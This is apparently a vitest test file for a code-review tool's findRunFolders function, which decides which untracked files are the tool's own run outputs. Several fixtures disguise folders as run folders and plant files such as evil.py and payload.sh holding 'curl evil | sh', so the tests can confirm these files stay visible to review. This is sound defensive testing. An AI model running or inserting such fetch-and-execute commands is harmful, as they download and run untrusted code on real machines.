import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { TempRepo } from "../../test/helpers/git-repo.js";
import { markRunFolder, RUN_FOLDER_MARKER } from "../common/run-folder.js";
import { findRunFolders } from "./run-folders.js";

const HEADER = `${JSON.stringify({ type: "header", format: "swe-review-trajectory", version: 1, id: "t" })}\n`;
const STEP = `${JSON.stringify({ type: "step", step: 1 })}\n`;

/** A repository with one committed file and the untracked files given. */
function repoWith(files: Record<string, string>): TempRepo {
  const repo = new TempRepo();
  repo.commit("base", { "a.py": "a = 1\n" });
  return repo.write(files);
}

function untracked(repo: TempRepo): string[] {
  return execFileSync("git", ["ls-files", "-z", "--others", "--exclude-standard", "--full-name"], {
    cwd: repo.dir,
    encoding: "utf8",
  })
    .split("\0")
    .filter(Boolean);
}

/** The run folders found, each with the untracked files it leaves out. */
async function found(repo: TempRepo): Promise<Record<string, string[]>> {
  const folders = await findRunFolders(repo.dir, untracked(repo));
  return Object.fromEntries(folders.map((folder) => [folder.path, folder.files]));
}

/** The run folders found, each with the untracked files it leaves out and those it keeps. */
async function split(repo: TempRepo): Promise<Record<string, { files: string[]; kept: string[] }>> {
  const folders = await findRunFolders(repo.dir, untracked(repo));
  return Object.fromEntries(
    folders.map((folder) => [folder.path, { files: folder.files, kept: folder.kept }]),
  );
}

describe("findRunFolders", () => {
  it("finds a folder named swe-review-runs, at the top or deeper, with the outputs of the runs in it", async () => {
    const repo = repoWith({
      "swe-review-runs/review-20250101-000000/report.json": "{}",
      "swe-review-runs/review-20250101-000000/trajectory.jsonl": HEADER,
      "pkg/swe-review-runs/generate-1/candidate.patch": "",
      "pkg/module.py": "x = 1\n",
    });
    expect(await found(repo)).toEqual({
      "pkg/swe-review-runs/": ["pkg/swe-review-runs/generate-1/candidate.patch"],
      "swe-review-runs/": [
        "swe-review-runs/review-20250101-000000/report.json",
        "swe-review-runs/review-20250101-000000/trajectory.jsonl",
      ],
    });
    const [folder] = await findRunFolders(repo.dir, untracked(repo));
    expect(folder?.reason).toBe("named swe-review-runs");
  });

  it("finds a folder by the marker every new run folder gets, whatever its name, and leaves out only swe-review's outputs", async () => {
    const repo = repoWith({ "my-review/report.json": "{}", "my-review/notes.txt": "mine\n" });
    markRunFolder(`${repo.dir}/my-review`, "review");
    expect(await split(repo)).toEqual({
      "my-review/": {
        files: [`my-review/${RUN_FOLDER_MARKER}`, "my-review/report.json"],
        kept: ["my-review/notes.txt"],
      },
    });
  });

  it("finds old run folders by what swe-review wrote into them: review, generation, loop and bench run", async () => {
    const repo = repoWith({
      "out/review/report.json": "{}",
      "out/review/trajectory.jsonl": HEADER + STEP,
      "gen/candidate.patch": "diff\n",
      "gen/pr.json": "{}",
      "gen/result.json": "{}",
      "loop1/loop.json": JSON.stringify({ strategy: "iterative", samples_spent: 2, samples: [] }),
      "loop1/rounds/01-generation/candidate.patch": "",
      "loop1/rounds/01-generation/pr.json": "{}",
      "loop1/rounds/01-generation/result.json": "{}",
      "bench-run/run.json": JSON.stringify({ run_id: "r", kind: "review" }),
      "bench-run/instances/x/result.json": "{}",
    });
    expect(Object.keys(await found(repo))).toEqual(["bench-run/", "gen/", "loop1/", "out/review/"]);
    const reasons = (await findRunFolders(repo.dir, untracked(repo))).map((folder) => folder.reason);
    expect(reasons).toEqual([
      "it holds a benchmark run's run.json and instances/",
      "it holds a generation's result.json, candidate.patch and pr.json",
      "it holds a loop's loop.json and rounds/",
      "it holds a review's report.json and trajectory.jsonl",
    ]);
  });

  it("leaves the user's look-alikes alone", async () => {
    const repo = repoWith({
      // report.json beside a trajectory of another tool, or beside none
      "eval/report.json": "{}",
      "eval/trajectory.jsonl": `${JSON.stringify({ type: "header", format: "other-agent" })}\n`,
      "docs/report.json": "{}",
      // a marker that is not ours, and result.json without the rest of a generation
      "fake/.swe-review-run.json": '{"format": "something else"}',
      "results/result.json": "{}",
      "results/candidate.patch": "",
      // a file named like the old folder is not a folder
      "swe-review-runs": "just a file\n",
      "data/loop.json": "{}",
    });
    repo.write({ "data/rounds/1.txt": "" });
    expect(await found(repo)).toEqual({});
  });

  it("never counts a folder holding tracked files, nor the repository itself, but still finds run folders inside them", async () => {
    const repo = new TempRepo();
    repo.commit("base", { "src/app.py": "", "swe-review-runs/README.md": "committed on purpose\n" });
    repo.write({
      "src/report.json": "{}",
      "src/trajectory.jsonl": HEADER,
      "report.json": "{}",
      "trajectory.jsonl": HEADER,
      "swe-review-runs/notes.md": "new notes\n",
      "swe-review-runs/review-2/report.json": "{}",
      "swe-review-runs/review-2/trajectory.jsonl": HEADER,
    });
    markRunFolder(repo.dir, "review");
    expect(await found(repo)).toEqual({
      "swe-review-runs/review-2/": [
        "swe-review-runs/review-2/report.json",
        "swe-review-runs/review-2/trajectory.jsonl",
      ],
    });
  });

  it("counts staged files as tracked: a run folder the user git-added is theirs", async () => {
    const repo = repoWith({ "swe-review-runs/review-1/report.json": "{}" });
    repo.git("add", "swe-review-runs/review-1/report.json");
    repo.write({ "swe-review-runs/review-1/trajectory.jsonl": HEADER });
    expect(await found(repo)).toEqual({});
  });

  describe("a folder dressed up as a run folder hides nothing but files named like swe-review's outputs", () => {
    it("a valid marker, a fake report.json and trajectory.jsonl, beside new code", async () => {
      const repo = repoWith({
        "src/feature/evil.py": "import os\nos.system('curl evil | sh')\n",
        "src/feature/index.ts": "export const x = 1;\n",
        "src/feature/report.json": '{"decision": "approve"}',
        "src/feature/trajectory.jsonl": HEADER,
        "src/feature/.github/workflows/ci.yml": "on: push\n",
        "src/feature/lib/util.py": "y = 2\n",
      });
      markRunFolder(join(repo.dir, "src/feature"), "review");
      const [folder] = await findRunFolders(repo.dir, untracked(repo));
      expect(folder).toEqual({
        path: "src/feature/",
        reason: `it holds swe-review's run marker ${RUN_FOLDER_MARKER}`,
        files: [
          `src/feature/${RUN_FOLDER_MARKER}`,
          "src/feature/report.json",
          "src/feature/trajectory.jsonl",
        ],
        kept: [
          "src/feature/.github/workflows/ci.yml",
          "src/feature/evil.py",
          "src/feature/index.ts",
          "src/feature/lib/util.py",
        ],
      });
    });

    it("a fake review's report.json and trajectory.jsonl without a marker", async () => {
      const repo = repoWith({
        "app/report.json": "{}",
        "app/trajectory.jsonl": HEADER,
        "app/evil.py": "x = 1\n",
      });
      expect(await split(repo)).toEqual({
        "app/": { files: ["app/report.json", "app/trajectory.jsonl"], kept: ["app/evil.py"] },
      });
    });

    it("a folder named swe-review-runs: only a run's outputs, in a run's folder", async () => {
      const repo = repoWith({
        "swe-review-runs/payload.sh": "curl evil | sh\n",
        "swe-review-runs/report.json": "{}",
        "swe-review-runs/review-1/report.json": "{}",
        "swe-review-runs/review-1/payload.sh": "curl evil | sh\n",
        "swe-review-runs/review-1/lib/report.json": "{}",
        "swe-review-runs/review-1/rounds/01-review/report.json": "{}",
      });
      expect(await split(repo)).toEqual({
        "swe-review-runs/": {
          files: [
            "swe-review-runs/review-1/report.json",
            "swe-review-runs/review-1/rounds/01-review/report.json",
          ],
          kept: [
            "swe-review-runs/payload.sh",
            "swe-review-runs/report.json",
            "swe-review-runs/review-1/lib/report.json",
            "swe-review-runs/review-1/payload.sh",
          ],
        },
      });
    });

    it("nested: a bench item's own files are ours, not what else is in its folder", async () => {
      const repo = repoWith({
        "bench/run.json": JSON.stringify({ run_id: "r", kind: "review" }),
        "bench/instances/x/result.json": "{}",
        "bench/instances/x/report.json": "{}",
        "bench/instances/x/evil.py": "x = 1\n",
        "bench/instances/x/deeper/report.json": "{}",
        "bench/instances/x/loop/rounds/01-generation/candidate.patch": "",
        "bench/instances/x/loop/rounds/01-generation/evil.py": "x = 1\n",
        "bench/instances/evil.py": "x = 1\n",
      });
      expect(await split(repo)).toEqual({
        "bench/": {
          files: [
            "bench/instances/x/loop/rounds/01-generation/candidate.patch",
            "bench/instances/x/report.json",
            "bench/instances/x/result.json",
            "bench/run.json",
          ],
          kept: [
            "bench/instances/evil.py",
            "bench/instances/x/deeper/report.json",
            "bench/instances/x/evil.py",
            "bench/instances/x/loop/rounds/01-generation/evil.py",
          ],
        },
      });
    });

    it("a run folder inside another: its outputs by its own layout, its other files kept", async () => {
      const repo = repoWith({ "out/report.json": "{}", "out/sub/report.json": "{}", "out/sub/evil.py": "" });
      markRunFolder(join(repo.dir, "out"), "review");
      markRunFolder(join(repo.dir, "out/sub"), "review");
      expect(await split(repo)).toEqual({
        "out/": {
          files: [
            `out/${RUN_FOLDER_MARKER}`,
            "out/report.json",
            `out/sub/${RUN_FOLDER_MARKER}`,
            "out/sub/report.json",
          ],
          kept: ["out/sub/evil.py"],
        },
      });
    });

    it("links are never followed nor left out: a linked marker makes no run folder, a link named like an output is kept", async () => {
      const repo = repoWith({ "elsewhere/keep.txt": "", "linked/report.json": "{}", "linked/evil.py": "" });
      markRunFolder(join(repo.dir, "elsewhere"), "review");
      symlinkSync(
        join(repo.dir, "elsewhere", RUN_FOLDER_MARKER),
        join(repo.dir, "linked", RUN_FOLDER_MARKER),
      );
      const marked = join(repo.dir, "marked");
      markRunFolder(marked, "review");
      symlinkSync("../src/app.py", join(marked, "report.json"));
      mkdirSync(join(repo.dir, "real-instances", "x"), { recursive: true });
      repo.write({ "real-instances/x/report.json": "{}" });
      symlinkSync("../real-instances", join(marked, "instances"));
      const folders = await split(repo);
      expect(Object.keys(folders)).toEqual(["elsewhere/", "marked/"]);
      expect(folders["marked/"]).toEqual({
        files: [`marked/${RUN_FOLDER_MARKER}`],
        kept: ["marked/instances", "marked/report.json"],
      });
    });

    it("a folder holding a tracked file is never a run folder, marker or not", async () => {
      const repo = new TempRepo();
      repo.commit("base", { "src/feature/old.py": "" });
      repo.write({ "src/feature/evil.py": "", "src/feature/report.json": "{}" });
      markRunFolder(join(repo.dir, "src/feature"), "review");
      expect(await found(repo)).toEqual({});
    });
  });
});
